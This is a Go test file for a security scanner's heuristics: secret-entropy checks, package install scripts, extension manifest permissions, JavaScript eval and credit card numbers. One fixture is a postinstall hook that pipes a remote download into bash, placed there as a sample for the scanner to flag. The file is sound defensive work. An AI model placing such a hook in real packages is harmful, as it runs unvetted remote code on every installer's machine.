package heuristics

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/skillscan/skillscan/internal/lineindex"
	"github.com/skillscan/skillscan/internal/model"
)

func TestEntropy_HighEntropySecret(t *testing.T) {
	item := model.ContentItem{
		VirtualPath: "config.py",
		FileType:    model.FileTypePython,
		Content:     `KEY = "sk_live_" + "aB3xQ9pL7mN4vT8kR2sY6wE1jH5cF0zD"`,
	}
	findings := Entropy(item, lineindex.Build(item.Content))
	require.Len(t, findings, 1)
	assert.Equal(t, EntropyFindingID, findings[0].RuleID)
	assert.Equal(t, 1, findings[0].Line)
}

func TestEntropy_CapAtTenFindings(t *testing.T) {
	var tokens []string
	for i := 0; i < 20; i++ {
		tokens = append(tokens, "aB3xQ9pL7mN4vT8kR2sY6wE1jH5cF0zD"+string(rune('a'+i)))
	}
	content := strings.Join(tokens, " ")
	item := model.ContentItem{VirtualPath: "f.txt", FileType: model.FileTypeText, Content: content}
	findings := Entropy(item, lineindex.Build(item.Content))
	assert.LessOrEqual(t, len(findings), entropyFindingCap)
}

func TestPackageScript_InstallScriptRemoteExec(t *testing.T) {
	item := model.ContentItem{
		VirtualPath: "package.json",
		FileType:    model.FileTypeJSON,
		Content:     `{"scripts":{"postinstall":"curl https://x | bash"}}`,
	}
	findings := PackageScript(item)

	ids := make(map[string]bool)
	for _, f := range findings {
		ids[f.RuleID] = true
		assert.Equal(t, "package.json", f.File)
	}
	assert.True(t, ids[InstallScriptFindingID])
	assert.True(t, ids[RemoteFetchFindingID])
	assert.True(t, ids[RemoteExecFindingID])
	assert.GreaterOrEqual(t, len(findings), 3)
}

func TestPackageScript_IgnoresNonInstallScripts(t *testing.T) {
	item := model.ContentItem{
		VirtualPath: "package.json",
		FileType:    model.FileTypeJSON,
		Content:     `{"scripts":{"test":"jest"}}`,
	}
	assert.Empty(t, PackageScript(item))
}

func TestPackageScript_NotPackageJSONNoop(t *testing.T) {
	item := model.ContentItem{VirtualPath: "other.json", FileType: model.FileTypeJSON, Content: `{}`}
	assert.Empty(t, PackageScript(item))
}

func TestManifest_BroadHostPermission(t *testing.T) {
	item := model.ContentItem{
		VirtualPath: "manifest.json",
		FileType:    model.FileTypeManifest,
		Content:     `{"manifest_version":3,"host_permissions":["<all_urls>"]}`,
	}
	findings := Manifest(item)
	require.NotEmpty(t, findings)
	assert.Equal(t, BroadHostPermissionFindingID, findings[0].RuleID)
}

func TestCode_JavaScriptEval(t *testing.T) {
	item := model.ContentItem{
		VirtualPath: "index.js",
		FileType:    model.FileTypeJavaScript,
		Content:     "function run(x) { return eval(x); }",
	}
	findings := Code(item)
	require.NotEmpty(t, findings)
	assert.Equal(t, DynamicEvalFindingID, findings[0].RuleID)
}

func TestCode_NonCodeFileTypeNoop(t *testing.T) {
	item := model.ContentItem{VirtualPath: "notes.md", FileType: model.FileTypeMarkdown, Content: "eval(x)"}
	assert.Empty(t, Code(item))
}

func TestCreditCard_LuhnValidNumberFlagged(t *testing.T) {
	item := model.ContentItem{
		VirtualPath: "notes.txt",
		FileType:    model.FileTypeText,
		Content:     "card: 4532015112830366",
	}
	findings := CreditCard(item)
	require.Len(t, findings, 1)
	assert.Equal(t, CreditCardFindingID, findings[0].RuleID)
}

func TestCreditCard_KnownTestCardIgnored(t *testing.T) {
	item := model.ContentItem{
		VirtualPath: "notes.txt",
		FileType:    model.FileTypeText,
		Content:     "card: 4242424242424242",
	}
	assert.Empty(t, CreditCard(item))
}
